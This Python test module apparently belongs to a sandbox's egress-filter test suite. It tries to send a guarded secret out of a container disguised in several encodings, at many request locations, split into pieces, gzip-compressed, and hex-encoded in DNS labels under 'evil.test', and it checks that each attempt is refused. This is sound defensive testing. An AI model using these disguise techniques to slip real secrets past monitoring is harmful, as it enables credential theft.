"""D1-D6: out by an allowed road, in disguise."""

from __future__ import annotations

import base64
import gzip
import json
import random
import string
from typing import TYPE_CHECKING, Any

from bot_bottle.verify import inside
from bot_bottle.verify.case import Case, Finding, broken, held, new_mark
from bot_bottle.verify.stage import ALLOWED, API

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from bot_bottle.verify.stage import Stage

#: How a value is written; every text is safe in a URL, a header and a JSON string.
FORMS: Mapping[str, Callable[[str], str]] = {
    "raw": lambda value: value,
    "hex": lambda value: value.encode().hex(),
    "base64": lambda value: base64.urlsafe_b64encode(value.encode()).decode().rstrip("="),
    "base64 twice": lambda value: base64.b64encode(base64.b64encode(value.encode())).decode().rstrip("="),
    "base32": lambda value: base64.b32encode(value.encode()).decode().rstrip("="),
    "reversed": lambda value: value[::-1],
    "percent": lambda value: "".join(f"%{byte:02x}" for byte in value.encode()),
}
#: A key by its form is known in what decodes to it; backwards or in base32 that holds for guarded values.
_FOUND_FORMS = ("raw", "base64", "hex")

_PLACES = """
def places(value):
    "Each place of a request where a value may stand."
    form = "Content-Type: application/x-www-form-urlencoded\\r\\n"
    part = f'Content-Disposition: form-data; name="a"; filename="n.txt"\\r\\n\\r\\n{value}'
    parts = f"--b\\r\\n{part}\\r\\n--b--\\r\\n".encode()
    kinds = ("multipart/form-data; boundary=b", "text/plain")
    multi, text = (f"Content-Type: {kind}\\r\\n" for kind in kinds)
    return {
        "path": dict(target=f"/{mark}/{value}"),
        "query": dict(target=f"/{mark}?q=a&token={value}"),
        "header": dict(headers=f"X-Note: {value}\\r\\n"),
        "header name": dict(headers=f"X-{value}: 1\\r\\n"),
        "cookie": dict(headers=f"Cookie: theme=dark; s={value}\\r\\n"),
        "json": dict(method="POST", headers="Content-Type: application/json\\r\\n",
                     body=json.dumps({"messages": [{"text": "see " + value}]}).encode()),
        "form": dict(method="POST", headers=form, body=f"a=1&b={value}".encode()),
        "multipart": dict(method="POST", headers=multi, body=parts),
        "text": dict(method="POST", headers=text, body=("notes " * 50 + value).encode()),
    }
told = {}
for form, value in values.items():
    for place, options in places(value).items():
        if place != "header name" or (form != "percent" and names):
            told[f"{form} in {place}"] = reason(attempt(request, host, **{"target": f"/{mark}", **options}))
tell(**told)
"""


def _disguised(kind: str) -> Callable[[Stage], Finding]:
    def run(stage: Stage) -> Finding:
        own = kind == "own"
        value = stage.guarded if own else "ghp_" + _letters(36)
        forms = tuple(FORMS) if own else _FOUND_FORMS
        values = {form: FORMS[form](value) for form in forms}
        reason = "own_secret" if own else "credential_found"
        mark = new_mark("d1")
        told = inside.run(stage.bottle, _PLACES, host=ALLOWED, mark=mark, values=values, names=own)
        if arrived := stage.outside.arrived(mark):
            return broken(f"arrived: {arrived[0]}")
        if other := {name: end for name, end in told.items() if end != reason}:
            return broken(f"{other}")
        if any(text in stage.plan.audit_path.read_text() for text in values.values()):
            return broken("the value stands in the audit log")
        control = inside.run(
            stage.bottle, _PLACES, host=ALLOWED, mark=mark, values={"raw": "nothing-of-note"}, names=True
        )
        if len(stage.outside.arrived(mark)) != len(control):
            return broken(f"the control did not get out: {control}")
        return held(f"{len(told)} disguises: {reason}; a harmless word in the same places arrives")

    return run


def _letters(count: int) -> str:
    return "".join(random.SystemRandom().choices(string.ascii_letters + string.digits, k=count))


_PIECES = """
ends = []
for number, part in enumerate(parts):
    ends.append(reason(attempt(request, host, f"/{mark}?seq={number}&d={part}")))
tell(ends=ends)
"""


def _in_pieces(stage: Stage) -> Finding:
    mark, size = new_mark("d4"), 5
    parts = [stage.guarded[at : at + size] for at in range(0, len(stage.guarded), size)]
    ends = inside.run(stage.bottle, _PIECES, host=ALLOWED, mark=mark, parts=parts)["ends"]
    arrived = len(stage.outside.arrived(mark))
    if "own_secret" not in ends or arrived >= len(parts):
        return broken(f"{arrived} of {len(parts)} pieces arrived: {ends}")
    return held(
        f"stopped at piece {ends.index('own_secret') + 1} of {len(parts)}, each in a connection of its own"
    )


_BODIES = """
told = {}
for name, (headers, body) in bodies.items():
    told[name] = reason(attempt(request, host, f"/{mark}", method="POST", headers=headers, body=body))
tell(**told)
"""


def _unreadable(stage: Stage) -> Finding:
    mark = new_mark("d5")
    packed = gzip.compress(json.dumps({"note": stage.guarded, "pad": "abc" * 200}).encode())
    bodies: dict[str, tuple[str, bytes, str]] = {
        "gzip": ("Content-Encoding: gzip\r\n", packed, "own_secret"),
        "gzip undeclared": ("Content-Type: application/octet-stream\r\n", packed, "own_secret"),
        "no gzip": ("Content-Encoding: gzip\r\n", b"nothing that gzip wrote", "content_unreadable"),
        "unknown coding": ("Content-Encoding: aes\r\n", b"nobody knows", "content_unreadable"),
        "no JSON": ("Content-Type: application/json\r\n", bytes(range(256)) * 16, "content_unreadable"),
    }
    sent = {name: (headers, body) for name, (headers, body, _) in bodies.items()}
    told: dict[str, Any] = inside.run(stage.bottle, _BODIES, host=ALLOWED, mark=mark, bodies=sent)
    if arrived := stage.outside.arrived(mark):
        return broken(f"arrived: {arrived[0]}")
    if other := {name: end for name, end in told.items() if end != bodies[name][2]}:
        return broken(f"{other}")
    return held(f"{len(told)} bodies opened and judged, or refused")


def _labels(stage: Stage) -> Finding:
    hidden = stage.guarded.encode().hex()
    code = "tell(**{zone: reason(attempt(request, f'{hidden}.{zone}', '/')) for zone in zones})"
    told = inside.run(stage.bottle, code, hidden=hidden, zones=["wild.test", "evil.test"])
    if stage.outside.arrived(hidden):
        return broken(f"arrived: {stage.outside.arrived(hidden)[0]}")
    if set(told.values()) != {"own_secret"}:
        return broken(f"{told}")
    if hidden in stage.plan.audit_path.read_text():
        return broken("the name stands in the audit log")
    return held("refused before any look-up, under a wildcard too; the name is not written down")


def _with_credential(stage: Stage) -> Finding:
    """The same on a route that carries the operator's credential."""
    mark = new_mark("d3")
    code = "tell(end=reason(attempt(request, host, f'/{mark}', method='POST', body=value.encode())))"
    told = inside.run(stage.bottle, code, host=API, mark=mark, value=f"see {stage.guarded}")
    if told["end"] != "own_secret" or stage.outside.arrived(mark):
        return broken(f"{told['end']}; arrived: {stage.outside.arrived(mark)}")
    return held("own_secret")


CASES = (
    Case(
        id="D1",
        title="a guarded value in 7 forms at 9 places of a request",
        expected="refused, never written down",
        run=_disguised("own"),
    ),
    Case(
        id="D3",
        title="a key by its form in 3 forms at 8 places",
        expected="refused, never written down",
        run=_disguised("found"),
    ),
    Case(
        id="D3", title="a guarded value to a host with a credential", expected="refused", run=_with_credential
    ),
    Case(
        id="D2",
        title="a guarded value in the labels of a name",
        expected="refused before any look-up",
        run=_labels,
    ),
    Case(
        id="D4",
        title="a guarded value in pieces over connections",
        expected="refused before the last piece",
        run=_in_pieces,
    ),
    Case(
        id="D5 D6",
        title="compressed, mislabelled and unreadable bodies",
        expected="opened and judged, or refused",
        run=_unreadable,
    ),
)
